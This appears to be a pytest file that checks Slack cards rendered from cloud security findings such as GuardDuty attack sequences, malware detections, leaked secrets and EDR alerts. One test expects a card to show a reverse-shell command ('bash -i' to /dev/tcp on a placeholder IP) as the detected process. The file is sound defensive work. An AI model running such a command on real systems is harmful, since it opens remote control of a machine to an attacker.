"""
Cards of inputs that once showed too little, or the wrong thing.

They were rebuilt from public reports. The substance of each card is asserted, not its words.
"""

import json
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from finding_router.findings.asff import read_finding
from finding_router.slack.messages.card import CardContext, render
from slack_limits import acts, says_nothing, violations

ROOT = Path(__file__).parents[2]
AWS_HOSTS = ("amazon.com", "amazonaws.cn", "aws.eu", "amazonaws-eusc.eu")
FIELD = ROOT.parent / "shared" / "field"
pytestmark = pytest.mark.skipif(
    not FIELD.is_dir(), reason=f"the collected inputs are not part of the project: {FIELD}"
)


def cards(name: str) -> list[str]:
    """Return the visible text of the card of each finding in the input *name*."""
    raw = json.loads((FIELD / f"{name}.json").read_text("utf-8"))
    found = []
    for each in raw if isinstance(raw, list) else [raw]:
        arguments = render(read_finding(each), CardContext(("route",))).arguments()
        assert violations(arguments) + acts(arguments) + says_nothing(arguments) == []
        found.append("\n".join(_texts(arguments)))
    return found


def _texts(node: Any) -> list[str]:
    if isinstance(node, dict):
        own = [node["text"]] if isinstance(node.get("text"), str) else []
        return own + [text for value in node.values() for text in _texts(value)]
    if isinstance(node, list):
        return [text for value in node for text in _texts(value)]
    return []


def has(text: str, *expected: str) -> list[str]:
    """Return those of *expected* that *text* lacks."""
    return [each for each in expected if each not in text]


def test_an_attack_sequence_tells_its_signals_in_order() -> None:
    """Signals oldest first with counts, addresses with place, tactics, indicators, no MFA."""
    [card] = cards("guardduty-attack-sequence")

    signals = [
        "UnauthorizedAccess:IAMUser/TorIPCaller` 4×",
        "cloudtrail:StopLogging`",
        "s3:GetObject` 1,200×",
        "iam:CreateAccessKey` 2×",
        "iam:AttachUserPolicy`",
        "Exfiltration:S3/AnomalousBehavior`",
    ]
    listed = card[card.index("*Signals*") :]
    assert sorted(signals, key=listed.index) == signals
    assert has(card, "6 signals", "without MFA", "ci-deploy") == []
    assert has(card, "`198.51.100.23` · Exampleville, Exampleland · Example Transit AS64500") == []
    assert has(card, "`203.0.113.9` · Other Town, Otherland · Example Tor AS64501") == []
    assert has(card, "Defense Evasion, Persistence, Exfiltration") == []
    assert has(card, "Tor IP 203.0.113.9", "suspicious network 64501", "high risk API") == []


def test_malware_tells_threat_file_and_hash() -> None:
    """The threat, its severity and count, the file's path and its SHA-256."""
    [card] = cards("guardduty-malware-threats-ec2")

    assert has(card, "EICAR-Test-File", "HIGH", "2 items", "/home/ec2-user/eicar.com") == []
    assert has(card, "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f") == []


def test_an_ipv6_caller_stands_beside_its_place() -> None:
    """The caller's address and its place are one line."""
    [card] = cards("guardduty-ipv6-caller")

    assert has(card, "`2001:db8:85a3::8a2e:370:7334` · Exampleland") == []


def test_a_container_is_named_with_image_and_user() -> None:
    """Its name, image with tag, that it is privileged, and the process's user."""
    [card] = cards("guardduty-runtime-container-image")

    assert has(card, "checkout", "amazonaws.com/checkout:1.42", "privileged", "as root") == []


def test_a_fault_in_code_is_located() -> None:
    """File and lines, weaknesses and layer."""
    [card] = cards("inspector-code-vulnerability")

    assert has(card, "src/handler.py:42-44", "CWE-77", "CWE-78", "CWE-88", "shared:7") == []


def test_an_installed_version_has_its_release() -> None:
    """Epoch on both or on none, and one v before the version of the score."""
    [card] = cards("inspector-installed-release-dropped")

    assert has(card, "kernel 5.10.0-8.amzn2 → 5.10.0-9.amzn2", "v3") == []
    assert "vV3" not in card


def test_unused_access_is_counted() -> None:
    """256 actions of 15 services, and the type of the finding."""
    [card] = cards("access-analyzer-unused-numbers")

    assert has(card, "256 actions", "15 services", "UnusedPermission") == []


def test_an_action_of_any_product_is_told() -> None:
    """The call and its origin."""
    [card] = cards("generic-action-api-call")

    assert has(card, "iam:ListUsers", "198.51.100.8", "Exampleland") == []


def test_two_secrets_of_one_commit_are_two_cards() -> None:
    """File and line, rule, author, and the commit, linked."""
    first, second = cards("generic-gitleaks-two-identical-cards")

    assert has(first, "config/prod.env:12", "aws-access-token", "Jane Doe") == []
    assert has(second, "config/stage.env:3", "aws-access-token", "Jane Doe") == []
    assert has(first, "<https://github.com/example-org/shop/commit/0a1b2c3d|") == []
    assert first.split("\n")[0] != second.split("\n")[0]


def test_a_sensor_tells_command_parent_hash_and_disposition() -> None:
    """What ran, what started it, what it was, and whether it was stopped."""
    [card] = cards("generic-crowdstrike-productfields")

    assert has(card, "bash -i &gt;&amp; /dev/tcp/198.51.100.44/4444", "apache2 -k start") == []
    assert has(card, "8e1c3d2f9b0a4e5d6c7b8a9f0e1d2c3b4a5968778695a4b3c2d1e0f9a8b7c6d5") == []
    assert has(card, "process would have been blocked if related prevention") == []


def test_every_threat_of_asff_s_full_example_is_told() -> None:
    """Threat, file, probe, vulnerability with one v, package with epoch and release."""
    [card] = cards("generic-threats-cvss-v3")

    assert has(card, "Iot.linux.mirai.vwisi", "HIGH", "3 items", "/tmp/b.txt", "Stringler") == []
    assert has(card, "Example City, Example Country", "80 (HTTP)", "not blocked") == []
    assert has(card, "CVSS 4.7 (v3)", "openssl 1:1.0.2k-16.amzn2.0.3", "203.0.113.1") == []
    assert "vV3" not in card


def test_three_standards_have_one_headline() -> None:
    """Whichever of them comes first."""
    headlines = {card.split("\n")[0] for card in cards("standards-headline-flips")}

    assert len(headlines) == 1


def test_owner_ticket_and_note_are_on_the_card() -> None:
    """Where AWS's own enrichment and others keep them."""
    [card] = cards("note-userdefinedfields-owner")

    assert has(card, "team-red", "SEC-42") == []


def test_resources_of_one_name_are_told_apart() -> None:
    """By their kind."""
    shown = cards("digest-same-short-names")

    kinds = ("IAM role checkout", "IAM policy checkout", "IAM user checkout")
    assert [has(card, kind) for card, kind in zip(shown, kinds, strict=True)] == [[], [], []]


@pytest.mark.parametrize(
    "path",
    [path for path in sorted(FIELD.glob("*.json")) if not path.stem.startswith("routes-")],
    ids=lambda path: path.stem,
)
def test_headlines_are_short_and_links_lead_to_known_hosts(path: Path) -> None:
    """A headline fits two lines of a phone; every page of a product is on AWS."""
    raw = json.loads(path.read_text("utf-8"))
    for each in raw if isinstance(raw, list) else [raw]:
        message = render(read_finding(each), CardContext(("route",)))
        [header] = [block for block in message.lead if block["type"] == "header"]
        assert len(header["text"]["text"]) <= 110
        for text in _texts(message.arguments()):
            for piece in text.split("<https://")[1:]:
                host = urlsplit("https://" + piece.partition("|")[0]).hostname or ""
                label = piece.partition("|")[2].partition(">")[0]
                assert host.endswith(AWS_HOSTS) or host in label
